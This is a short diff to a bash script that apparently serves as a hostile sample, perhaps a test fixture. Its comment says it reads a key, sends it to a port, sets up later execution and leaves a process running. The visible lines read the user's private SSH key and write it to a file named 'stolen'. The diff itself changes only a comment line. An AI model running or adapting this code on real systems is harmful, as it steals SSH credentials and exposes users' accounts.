@@ -1,6 +1,6 @@
 #!/bin/bash
 # Reads a key and sends it, has a shell and a repository run something later, and leaves a process.
-# Arguments: the home, the project, the port of who wants the key.
+# Arguments: the home, the project, the port of the key's receiver.
 cat >/dev/null
 key=$(<"$1/.ssh/id_ed25519")
 echo "$key" >"$2/stolen"
